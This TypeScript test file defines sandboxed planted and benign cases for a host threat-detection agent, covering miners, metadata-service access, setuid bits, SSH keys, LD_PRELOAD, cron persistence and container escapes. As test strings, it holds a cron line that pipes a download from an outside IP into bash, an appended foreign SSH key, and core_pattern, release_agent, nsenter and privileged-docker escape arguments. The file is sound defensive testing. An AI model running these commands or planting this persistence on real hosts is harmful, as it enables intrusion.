import { appendFileSync, chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CaseSandbox, DetectionCase } from '../detection-case.js';
import { Children, expectOneGroup, freePort, ownLoopback, quietInputs, Sockets, sshKey } from '../threat-planting.js';

// Planted cases of the instance-threat agent (agents/instance-threat.md), one or more per rule. Every case points all
// collectors at its sandbox (quietInputs) and scopes the process rules to executables under it, so what else runs on
// the machine never enters the measured run.

const AGENT = 'instance-threat';
const SLEEP = '/bin/sleep';
const SH = '/bin/sh';

/** A case body with the plumbing every case shares: children and sockets stopped on cleanup. */
function withProcesses(
  make: (dir: string, kids: Children, net: Sockets) => Promise<Omit<CaseSandbox, 'cleanup'>>,
): (dir: string) => Promise<CaseSandbox> {
  return async (dir) => {
    const kids = new Children();
    const net = new Sockets();
    const box = await make(dir, kids, net);
    return { ...box, cleanup: async () => { await kids.stop(); await net.close(); } };
  };
}

const files = (make: (dir: string) => Omit<CaseSandbox, 'cleanup'>) => (dir: string): Promise<CaseSandbox> =>
  Promise.resolve({ ...make(dir), cleanup: () => Promise.resolve() });

export const cases: DetectionCase[] = [
  {
    id: 'threat-miner-pool-connection',
    techniques: ['T1496', 'T1571'],
    agent: AGENT,
    rule: 'miner-pool-connection',
    planted: 'an outgoing loopback connection to a port given as a mining-pool port',
    clean: 'the accepted side of a connection whose client port happens to be a mining-pool port',
    setup: withProcesses(async (dir, _kids, net) => {
      const pool = await freePort();
      return {
        inputs: { ...quietInputs(dir), miner_ports: [String(pool)] },
        plant: async () => {
          await net.listen('127.0.0.1', pool);
          await net.connect('127.0.0.1', pool);
        },
        benign: async () => {
          const service = await net.listen('127.0.0.1');
          await net.connect('127.0.0.1', service, pool);
        },
        // One pool is one problem, whatever the local port or process.
        check: (findings) => {
          if (findings.some((f) => f.resource !== `ip:127.0.0.1, port:${pool}` || f.dedup_key !== `miner-connection:127.0.0.1:${pool}`)) {
            throw new Error(`unexpected identity: ${JSON.stringify(findings.map((f) => [f.resource, f.dedup_key]))}`);
          }
        },
      };
    }),
  },
  {
    id: 'threat-miner-pool-allowlisted',
    techniques: ['T1496'],
    agent: AGENT,
    rule: 'miner-pool-connection',
    planted: 'a connection to a mining-pool port on an address not in miner_pool_allow',
    clean: 'the same connection to an address listed in miner_pool_allow',
    setup: withProcesses(async (dir, _kids, net) => {
      const pool = await freePort();
      const allowed = ownLoopback();
      return {
        inputs: { ...quietInputs(dir), miner_ports: [String(pool)], miner_pool_allow: [`${allowed}:${pool}`] },
        plant: async () => {
          const other = ownLoopback();
          await net.listen(other, pool);
          await net.connect(other, pool);
        },
        benign: async () => {
          await net.listen(allowed, pool);
          await net.connect(allowed, pool);
        },
      };
    }),
  },
  {
    id: 'threat-miner-port-listener',
    techniques: ['T1496', 'T1571'],
    agent: AGENT,
    rule: 'miner-port-listener',
    planted: 'a loopback listener on a port given as a mining-pool port',
    clean: 'the same listener with its port in miner_listener_allow',
    setup: withProcesses(async (dir, _kids, net) => {
      const port = await freePort();
      const allowedPort = await freePort();
      return {
        inputs: { ...quietInputs(dir), miner_ports: [String(port), String(allowedPort)], miner_listener_allow: [String(allowedPort)] },
        plant: async () => void (await net.listen('127.0.0.1', port)),
        benign: async () => void (await net.listen('127.0.0.1', allowedPort)),
        check: (findings) => {
          if (findings.some((f) => f.resource !== `port:${port}`)) throw new Error(`unexpected resource: ${JSON.stringify(findings.map((f) => f.resource))}`);
        },
      };
    }),
  },
  {
    id: 'threat-miner-process-name',
    techniques: ['T1496'],
    agent: AGENT,
    rule: 'miner-process',
    planted: 'three processes named xmrig (one group, not three)',
    clean: 'a process with an ordinary name',
    setup: withProcesses((dir, kids) => Promise.resolve({
      inputs: { ...quietInputs(dir), miner_names: ['xmrig'] },
      plant: async () => {
        for (let i = 0; i < 3; i++) await kids.start(join(dir, `w${i}`), 'xmrig', SLEEP, ['600']);
      },
      benign: async () => void (await kids.start(dir, 'backupd', SLEEP, ['600'])),
      check: (findings) => expectOneGroup(findings, 3),
    })),
  },
  {
    id: 'threat-miner-process-stratum',
    techniques: ['T1496'],
    agent: AGENT,
    rule: 'miner-process',
    planted: 'a shell whose command line carries a stratum+tcp:// pool URL',
    clean: 'a shell whose command line carries an https:// URL',
    setup: withProcesses((dir, kids) => Promise.resolve({
      inputs: quietInputs(dir),
      plant: async () => void (await kids.start(dir, 'worker', SH, ['-c', 'sleep 600; :', 'worker', '-o', 'stratum+tcp://pool.invalid:3333'])),
      benign: async () => void (await kids.start(dir, 'worker', SH, ['-c', 'sleep 600; :', 'worker', '-o', 'https://mirror.invalid/'])),
    })),
  },
  {
    id: 'threat-metadata-service-access',
    techniques: ['T1552.005'],
    agent: AGENT,
    rule: 'metadata-service-access',
    planted: 'a process that is no cloud agent connected to an address given as the metadata service',
    clean: 'the same connection from a process named in metadata_clients',
    setup: withProcesses(async (dir, kids, net) => {
      const imds = ownLoopback();
      const port = await net.listen(imds);
      // A node child holding one connection; run through a symlink so its comm is the case's name.
      const probe = `const s = require('node:net').connect(${port}, '${imds}'); s.on('error', () => {}); setInterval(() => {}, 1e6);`;
      const connected = new Promise<void>((resolve) => net.onConnection(resolve));
      return {
        inputs: { ...quietInputs(dir), metadata_addresses: [imds], metadata_clients: ['cloud-init', 'imds-ok'] },
        plant: async () => {
          await kids.startLinked(dir, 'imds-probe', process.execPath, ['-e', probe]);
          await connected;
        },
        benign: async () => {
          await kids.startLinked(dir, 'imds-ok', process.execPath, ['-e', probe]);
          await connected;
        },
      };
    }),
  },
  {
    id: 'threat-new-setuid-binary',
    techniques: ['T1548.001'],
    agent: AGENT,
    rule: 'new-setuid-binary',
    planted: 'the setuid bit set on a file since the previous run',
    clean: 'a new executable without the setuid bit',
    setup: files((dir) => {
      const inputs = quietInputs(dir);
      writeFileSync(join(dir, 'suid', 'helper'), '#!/bin/sh\n', { mode: 0o755 });
      return {
        inputs,
        needsBaseline: true,
        plant: () => Promise.resolve(chmodSync(join(dir, 'suid', 'helper'), 0o4755)),
        benign: () => Promise.resolve(writeFileSync(join(dir, 'suid', 'tool'), '#!/bin/sh\n', { mode: 0o755 })),
      };
    }),
  },
  {
    id: 'threat-new-setgid-binary',
    techniques: ['T1548.001'],
    agent: AGENT,
    rule: 'new-setgid-binary',
    planted: 'the setgid bit set on a file since the previous run',
    clean: 'a file whose only change is its ordinary permissions',
    setup: files((dir) => {
      const inputs = quietInputs(dir);
      writeFileSync(join(dir, 'suid', 'helper'), '#!/bin/sh\n', { mode: 0o755 });
      return {
        inputs,
        needsBaseline: true,
        plant: () => Promise.resolve(chmodSync(join(dir, 'suid', 'helper'), 0o2755)),
        benign: () => Promise.resolve(chmodSync(join(dir, 'suid', 'helper'), 0o750)),
      };
    }),
  },
  {
    id: 'threat-new-authorized-key',
    techniques: ['T1098.004'],
    agent: AGENT,
    rule: 'new-authorized-key',
    planted: 'an SSH key appended to an authorized_keys file since the previous run',
    clean: 'a comment and a key listed in authorized_key_allow appended instead',
    setup: files((dir) => {
      const file = join(dir, 'authorized_keys');
      const rotated = sshKey('ops@ansible');
      writeFileSync(file, `${sshKey('ops@bastion').line}\n`);
      return {
        inputs: { ...quietInputs(dir), authorized_key_allow: [rotated.id] },
        needsBaseline: true,
        plant: () => Promise.resolve(appendFileSync(file, `${sshKey('x@evil').line}\n`)),
        benign: () => Promise.resolve(appendFileSync(file, `# rotated by ansible\n${rotated.line}\n`)),
      };
    }),
  },
  {
    id: 'threat-ld-so-preload',
    techniques: ['T1574.006'],
    agent: AGENT,
    rule: 'ld-preload',
    planted: 'a library named in the preload file (a sandbox ld.so.preload)',
    clean: 'a preload file naming only a library listed in preload_allow, and comments',
    setup: files((dir) => {
      const sanctioned = '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2';
      return {
        inputs: { ...quietInputs(dir), preload_allow: [sanctioned] },
        plant: () => Promise.resolve(writeFileSync(join(dir, 'ld.so.preload'), `${join(dir, 'libhide.so')}\n`)),
        benign: () => Promise.resolve(writeFileSync(join(dir, 'ld.so.preload'), `# allocator\n${sanctioned}\n`)),
      };
    }),
  },
  {
    id: 'threat-env-ld-preload',
    techniques: ['T1574.006'],
    agent: AGENT,
    rule: 'env-preload',
    planted: 'two processes started with LD_PRELOAD naming a library (one group)',
    clean: 'the same processes started without LD_PRELOAD',
    setup: withProcesses((dir, kids) => {
      const lib = join(dir, 'libx.so');
      // Not a real library: ld.so says it cannot preload it and runs the program anyway; the environment is what counts.
      writeFileSync(lib, 'not an ELF file\n');
      return Promise.resolve({
        inputs: { ...quietInputs(dir), preload_suspect_dirs: [] },
        plant: async () => {
          for (const n of ['svc-a', 'svc-b']) await kids.start(dir, n, SLEEP, ['600'], { LD_PRELOAD: lib });
        },
        benign: async () => {
          for (const n of ['svc-a', 'svc-b']) await kids.start(dir, n, SLEEP, ['600'], { OKESU_CASE_VAR: lib });
        },
        check: (findings) => expectOneGroup(findings, 2),
      });
    }),
  },
  {
    id: 'threat-env-library-path-writable',
    techniques: ['T1574.006'],
    agent: AGENT,
    rule: 'env-preload-writable-dir',
    planted: 'a process whose LD_LIBRARY_PATH starts in a world-writable directory (the sandbox stands in for /tmp)',
    clean: 'a process whose LD_LIBRARY_PATH names a system library directory',
    setup: withProcesses((dir, kids) => {
      mkdirSync(join(dir, 'lib'));
      return Promise.resolve({
        inputs: { ...quietInputs(dir), preload_suspect_dirs: [dir] },
        plant: async () => void (await kids.start(dir, 'app', SLEEP, ['600'], { LD_LIBRARY_PATH: `${join(dir, 'lib')}:/usr/lib` })),
        benign: async () => void (await kids.start(dir, 'app', SLEEP, ['600'], { LD_LIBRARY_PATH: '/usr/local/lib:/usr/lib' })),
      });
    }),
  },
  {
    id: 'threat-new-user-crontab-entry',
    techniques: ['T1053.003'],
    agent: AGENT,
    rule: 'new-cron-entry',
    planted: "a job added to a user's crontab (a sandbox /var/spool/cron/crontabs)",
    clean: 'a comment and an environment line added to the same crontab',
    setup: files((dir) => {
      const tabs = join(dir, 'crontabs');
      mkdirSync(tabs);
      writeFileSync(join(tabs, 'alice'), '# m h dom mon dow command\n15 2 * * * /home/alice/bin/backup\n');
      return {
        inputs: { ...quietInputs(dir), cron_paths: [join(dir, 'crontab'), tabs] },
        needsBaseline: true,
        plant: () => Promise.resolve(appendFileSync(join(tabs, 'alice'), '@reboot /home/alice/.cache/.updater\n')),
        benign: () => Promise.resolve(appendFileSync(join(tabs, 'alice'), '# nightly\nMAILTO=alice\n')),
      };
    }),
  },
  {
    id: 'threat-new-system-cron-file',
    techniques: ['T1053.003'],
    agent: AGENT,
    rule: 'new-cron-entry',
    planted: 'a new file in a cron.d directory',
    clean: 'a new job in a crontab listed in cron_allow',
    setup: files((dir) => {
      const crond = join(dir, 'cron.d');
      mkdirSync(crond);
      writeFileSync(join(crond, 'managed'), '0 1 * * * root /usr/local/bin/rotate\n');
      return {
        inputs: { ...quietInputs(dir), cron_paths: [crond], cron_allow: [join(crond, 'managed')] },
        needsBaseline: true,
        plant: () => Promise.resolve(writeFileSync(join(crond, 'sysupdate'), '*/30 * * * * root /var/tmp/.sysupdate\n')),
        benign: () => Promise.resolve(appendFileSync(join(crond, 'managed'), '0 2 * * * root /usr/local/bin/rotate --all\n')),
      };
    }),
  },
  {
    id: 'threat-cron-download-exec',
    techniques: ['T1053.003', 'T1105'],
    agent: AGENT,
    rule: 'cron-download-exec',
    planted: 'a cron job piping a download into a shell',
    clean: 'a cron job downloading a file to disk',
    setup: files((dir) => ({
      inputs: quietInputs(dir),
      plant: () => Promise.resolve(writeFileSync(join(dir, 'cron', 'x'), '*/10 * * * * root curl -fsSL http://203.0.113.7/s.sh | bash\n')),
      benign: () => Promise.resolve(writeFileSync(join(dir, 'cron', 'x'), '0 4 * * * root curl -fsS -o /var/backups/list.json https://example.com/list.json\n')),
    })),
  },
  {
    id: 'threat-new-cron-script',
    techniques: ['T1053.003'],
    agent: AGENT,
    rule: 'new-cron-script',
    planted: 'a new script in a cron.daily directory (a sandbox one)',
    clean: 'a change to a script listed in cron_allow',
    setup: files((dir) => {
      const daily = join(dir, 'cron.daily');
      mkdirSync(daily);
      writeFileSync(join(daily, 'logrotate'), '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n', { mode: 0o755 });
      writeFileSync(join(daily, '.placeholder'), '');
      return {
        inputs: { ...quietInputs(dir), cron_allow: [join(daily, 'logrotate')] },
        needsBaseline: true,
        plant: () => Promise.resolve(writeFileSync(join(daily, 'apt-compat-x'), '#!/bin/sh\n/dev/shm/.k >/dev/null 2>&1\n', { mode: 0o755 })),
        benign: () => Promise.resolve(appendFileSync(join(daily, 'logrotate'), '# upgraded\n')),
      };
    }),
  },
  {
    id: 'threat-core-pattern-pipe',
    techniques: ['T1611'],
    agent: AGENT,
    rule: 'core-pattern-pipe',
    planted: 'core_pattern (a sandbox copy) piped to a program in a container layer',
    clean: "core_pattern piped to systemd-coredump, the distribution's crash handler",
    setup: files((dir) => ({
      inputs: quietInputs(dir),
      plant: () => Promise.resolve(writeFileSync(join(dir, 'core_pattern'), '|/var/lib/docker/overlay2/3f2a/diff/tmp/.x %P\n')),
      benign: () => Promise.resolve(writeFileSync(join(dir, 'core_pattern'), '|/lib/systemd/systemd-coredump %P %u %g %s %t 9223372036854775808 %h\n')),
    })),
  },
  {
    id: 'threat-cgroup-release-agent',
    techniques: ['T1611'],
    agent: AGENT,
    rule: 'cgroup-release-agent',
    planted: 'a cgroup v1 release_agent (sandbox copies) naming a script',
    clean: "empty release_agent files and systemd's cgroups agent",
    setup: files((dir) => {
      for (const c of ['rdma', 'memory', 'systemd']) {
        mkdirSync(join(dir, 'cgroup', c), { recursive: true });
        writeFileSync(join(dir, 'cgroup', c, 'release_agent'), '');
      }
      return {
        inputs: quietInputs(dir),
        plant: () => Promise.resolve(writeFileSync(join(dir, 'cgroup', 'rdma', 'release_agent'), '/tmp/.cg/cmd\n')),
        benign: () => Promise.resolve(writeFileSync(join(dir, 'cgroup', 'systemd', 'release_agent'), '/lib/systemd/systemd-cgroups-agent\n')),
      };
    }),
  },
  {
    // No container here: the case names another PID namespace as the host's (host_pid_namespace), so its child counts
    // as containerised, and a Unix socket in the sandbox stands in for docker.sock (seen through /proc/PID/root).
    id: 'threat-container-runtime-socket',
    techniques: ['T1611'],
    agent: AGENT,
    rule: 'container-runtime-socket',
    planted: 'a process outside the host PID namespace that sees the runtime socket',
    clean: 'the same, from a process named in runtime_socket_allow',
    setup: withProcesses(async (dir, kids, net) => {
      // As in most images, the socket's directory is reached through a symlink (var/run -> ../run).
      mkdirSync(join(dir, 'var'));
      mkdirSync(join(dir, 'run'));
      symlinkSync('../run', join(dir, 'var', 'run'));
      await net.listenUnix(join(dir, 'run', 'docker.sock'));
      return {
        inputs: { ...quietInputs(dir), runtime_sockets: [join(dir, 'var', 'run', 'docker.sock')], host_pid_namespace: 'pid:[1]', runtime_socket_allow: ['portainer'] },
        plant: async () => void (await kids.start(dir, 'webapp', SLEEP, ['600'])),
        benign: async () => void (await kids.start(dir, 'portainer', SLEEP, ['600'])),
      };
    }),
  },
  {
    id: 'threat-nsenter-pid1',
    techniques: ['T1611'],
    agent: AGENT,
    rule: 'nsenter-host-namespaces',
    planted: 'nsenter --target 1 (a shell copied as nsenter, with those arguments)',
    clean: 'nsenter into another process (--target 4242), as when debugging a container',
    setup: withProcesses((dir, kids) => Promise.resolve({
      inputs: quietInputs(dir),
      plant: async () => void (await kids.start(dir, 'nsenter', SH, ['-c', 'sleep 600; :', '-t', '1', '-m', '-u', '-i', '-n', '-p'])),
      benign: async () => void (await kids.start(dir, 'nsenter', SH, ['-c', 'sleep 600; :', '-t', '4242', '-n'])),
    })),
  },
  {
    id: 'threat-privileged-container-run',
    techniques: ['T1611', 'T1610'],
    agent: AGENT,
    rule: 'privileged-container-run',
    planted: 'docker run --privileged (a shell copied as docker, with those arguments)',
    clean: 'docker run of an ordinary container',
    setup: withProcesses((dir, kids) => Promise.resolve({
      inputs: quietInputs(dir),
      plant: async () => void (await kids.start(dir, 'docker', SH, ['-c', 'sleep 600; :', 'run', '--privileged', '--rm', '-it', 'alpine', 'sh'])),
      benign: async () => void (await kids.start(dir, 'docker', SH, ['-c', 'sleep 600; :', 'run', '--rm', 'alpine', 'true'])),
    })),
  },
];
